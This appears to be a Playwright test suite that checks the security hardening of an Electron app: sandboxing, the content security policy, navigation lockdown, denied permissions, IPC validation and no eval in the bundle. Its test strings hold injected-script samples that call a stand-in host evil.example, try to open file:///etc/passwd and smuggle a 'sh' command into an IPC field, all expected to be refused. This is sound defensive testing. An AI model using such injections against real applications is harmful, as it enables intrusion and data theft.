import { spawn } from 'node:child_process'
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { once } from 'node:events'
import type { Bridge } from '../src/shared/ipc/ipc-wire'
import { appEnvironment, root } from '../scripts/project.mjs'
import { electronExecutable, electronSwitches, expect, test } from './fixtures'
import { commandOf, descendantsOf, listeningSocketsOf } from './processes'

test('the window is hardened', async ({ running: { app, window } }) => {
  const preferences = await app.evaluate(({ BrowserWindow }) => {
    const [first] = BrowserWindow.getAllWindows()
    // Not in the API documents, but there: the only way to see what really holds.
    const contents = first?.webContents as unknown as { getLastWebPreferences(): object }
    return contents.getLastWebPreferences()
  })
  expect(preferences).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    nodeIntegrationInSubFrames: false,
    webSecurity: true,
    webviewTag: false,
    allowRunningInsecureContent: false,
    experimentalFeatures: false
  })
  const globals = await window.evaluate(() => ({
    require: typeof (globalThis as Record<string, unknown>)['require'],
    process: typeof (globalThis as Record<string, unknown>)['process'],
    module: typeof (globalThis as Record<string, unknown>)['module'],
    Buffer: typeof (globalThis as Record<string, unknown>)['Buffer'],
    bridge: Object.keys((globalThis as unknown as { patchbay: object }).patchbay)
  }))
  expect(globals).toEqual({
    require: 'undefined',
    process: 'undefined',
    module: 'undefined',
    Buffer: 'undefined',
    bridge: ['request', 'on', 'pathOf']
  })
  expect(new URL(window.url()).protocol).toBe('app:')
})

/** What injected script would try. Text, because the type checker and the linter rightly refuse it. */
const ATTACKS = `(async () => {
  const violations = []
  document.addEventListener('securitypolicyviolation', (event) =>
    violations.push(event.effectiveDirective)
  )
  // Playwright's own evaluation may use eval; a task of the page may not.
  await new Promise((resolve) => setTimeout(resolve))
  const attempts = {
    eval: () => (0, eval)('1'),
    Function: () => new Function('return 1')(),
    timer: () => setTimeout('globalThis.hacked = true'),
    markup: () => (document.createElement('div').innerHTML = '<b>x</b>'),
    worker: () => new Worker('https://evil.example/worker.js'),
    fetch: () => fetch('https://evil.example/'),
    handler: () => document.body.setAttribute('onclick', 'globalThis.hacked = true'),
    inline: () => {
      const script = document.createElement('script')
      script.textContent = 'globalThis.hacked = true'
      document.head.append(script)
    }
  }
  const thrown = []
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt()
    } catch {
      thrown.push(name)
    }
  }
  const image = document.createElement('img')
  const imageFailed = new Promise((resolve) => image.addEventListener('error', resolve))
  image.src = 'https://evil.example/pixel.png'
  document.body.append(image)
  await imageFailed
  const frame = document.createElement('iframe')
  const frameRefused = new Promise((resolve) =>
    document.addEventListener('securitypolicyviolation', (event) => {
      if (event.effectiveDirective === 'frame-src') resolve()
    })
  )
  frame.src = 'https://evil.example/'
  document.body.append(frame)
  await frameRefused
  return { thrown, violations, hacked: 'hacked' in globalThis }
})()`

test('the policy refuses eval, inline script, remote content and untrusted markup', async ({
  window,
  complaints
}) => {
  const refused = await window.evaluate<{
    thrown: string[]
    violations: string[]
    hacked: boolean
  }>(ATTACKS)
  expect(refused.hacked).toBe(false)
  expect(refused.thrown).toEqual([
    'eval',
    'Function',
    'timer',
    'markup',
    'worker',
    'fetch',
    'handler',
    'inline'
  ])
  expect(new Set(refused.violations)).toEqual(
    new Set(['require-trusted-types-for', 'img-src', 'frame-src', 'connect-src'])
  )
  complaints.length = 0
})

test('the policy is a header of every answer, and nothing outside the bundle is served', async ({
  running: { app }
}) => {
  const [page, outside] = await app.evaluate(async ({ net }) => {
    const ask = async (url: string) => {
      const response = await net.fetch(url)
      return { status: response.status, policy: response.headers.get('content-security-policy') }
    }
    return Promise.all([ask('app://patchbay/index.html'), ask('app://patchbay/../../package.json')])
  })
  expect(page?.status).toBe(200)
  const directives = (page?.policy ?? '').split('; ')
  expect(directives).toContain("default-src 'none'")
  // Trusted Types throw before this one is asked, so that it holds shows only here.
  expect(directives).toContain("script-src 'self'")
  expect(page?.policy).not.toContain('unsafe-eval')
  expect(outside?.status).toBe(404)
})

test('the window cannot be led elsewhere', async ({ running: { app, window }, complaints }) => {
  const home = window.url()
  const WAYS_OUT = [
    "globalThis.open('https://evil.example/')",
    "Object.assign(document.createElement('a'), { href: 'https://evil.example/', target: '_blank' }).click()",
    "Object.assign(document.createElement('a'), { href: 'https://evil.example/' }).click()",
    "location.href = 'https://evil.example/'",
    "location.assign('app://evil/index.html')",
    "location.assign('file:///etc/passwd')",
    "location.assign('data:text/html,hello')"
  ]
  // The form is last: that it was refused shows that everything before it has been dealt with.
  const attempt = `(async () => {
    const refused = new Promise((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => {
        if (event.effectiveDirective === 'form-action') resolve()
      })
    )
    ${WAYS_OUT.join('\n')}
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' })
    document.body.append(form)
    form.submit()
    await refused
  })()`
  await window.evaluate(attempt)
  const seen = await app.evaluate(({ BrowserWindow }) =>
    BrowserWindow.getAllWindows().map(({ webContents }) => ({
      url: webContents.getURL(),
      isLoading: webContents.isLoadingMainFrame()
    }))
  )
  expect(seen).toEqual([{ url: home, isLoading: false }])
  expect(await window.evaluate(() => document.querySelector('nav') !== null)).toBe(true)
  complaints.length = 0
})

test('the page gets no permission', async ({ window }) => {
  const states = await window.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi']
    const query = async (name: string) =>
      (await navigator.permissions.query({ name: name as PermissionName })).state
    const media = navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'granted',
      () => 'refused'
    )
    return [
      ...(await Promise.all(names.map(query))),
      await Notification.requestPermission(),
      await media
    ]
  })
  expect(states).toEqual([...Array<string>(7).fill('denied'), 'refused'])
})

test('main refuses what the contract does not know', async ({ window }) => {
  const ask = (route: unknown, input: unknown) =>
    window.evaluate(
      async ([name, json]) => {
        const { patchbay } = globalThis as unknown as { patchbay: Bridge }
        return JSON.parse(await patchbay.request(name as string, json as string)) as unknown
      },
      [route, input] as const
    )
  const refused = { ok: false, error: { code: 'INVALID_INPUT' } }
  expect(await ask('no.such.route', '')).toMatchObject(refused)
  expect(await ask('__proto__', '')).toMatchObject(refused)
  expect(await ask('session.open', '{"serverId":7}')).toMatchObject(refused)
  expect(await ask('session.open', '{"serverId":"demo","command":"sh"}')).toMatchObject(refused)
  expect(await ask('session.open', '{')).toMatchObject(refused)
  expect(await ask('session.open', { serverId: 'demo' })).toMatchObject(refused)
  expect(await ask('session.open', '{"serverId":"nope"}')).toMatchObject({
    ok: false,
    error: { code: 'NOT_FOUND' }
  })
  expect(await ask('servers.list', '')).toMatchObject({ ok: true })
})

test('there is one door into main', async ({ running: { app } }) => {
  const doors = await app.evaluate(({ ipcMain, BrowserWindow }) => {
    type Door = typeof ipcMain & { _invokeHandlers: Map<string, unknown> }
    const contents = BrowserWindow.getAllWindows().map(({ webContents }) => webContents)
    const all = [
      ipcMain,
      ...contents.flatMap(({ ipc, mainFrame }) => [ipc, mainFrame.ipc])
    ] as unknown as Door[]
    return {
      handlers: all.flatMap(({ _invokeHandlers }) => [..._invokeHandlers.keys()]),
      listeners: all.flatMap((door) => door.eventNames())
    }
  })
  const electronsOwn = ['IMPORT_SHARED_TEXTURE_RELEASE_RENDERER_TO_MAIN']
  expect({
    handlers: doors.handlers.filter((name) => !electronsOwn.includes(name)),
    listeners: doors.listeners.filter((name) => name !== 'error')
  }).toEqual({ handlers: ['patchbay:request'], listeners: [] })
})

test('no socket listens, with a server open', async ({ profile }) => {
  test.skip(process.platform !== 'linux', 'reads /proc')
  // Playwright itself makes the app listen, so this one is started without it.
  const app = spawn(
    electronExecutable(),
    [...electronSwitches(), root, `--profile=${profile}`, '--open=demo'],
    { env: appEnvironment(), stdio: ['ignore', 'pipe', 'ignore'] }
  )
  try {
    await Promise.race([once(app.stdout, 'data'), once(app, 'exit')])
    const pids = () => descendantsOf(app.pid ?? 0)
    await expect.poll(() => pids().some((pid) => commandOf(pid).includes('demo-server'))).toBe(true)
    expect(pids().length).toBeGreaterThan(3)
    expect(listeningSocketsOf(pids())).toEqual([])
  } finally {
    if (app.exitCode === null) {
      app.kill()
      await once(app, 'exit')
    }
  }
})

/** Neither a method that is named so, nor the call of one. */
const MAKES_CODE = /(?<![.\w$])eval\((?![^()]*\)\s*\{)|new Function\(/

test('the bundle of the window makes no code out of text', () => {
  const folder = join(root, 'out/renderer/assets')
  const offenders = readdirSync(folder)
    .filter((name) => name.endsWith('.js'))
    .filter((name) => MAKES_CODE.test(readFileSync(join(folder, name), 'utf8')))
  expect(offenders).toEqual([])
})
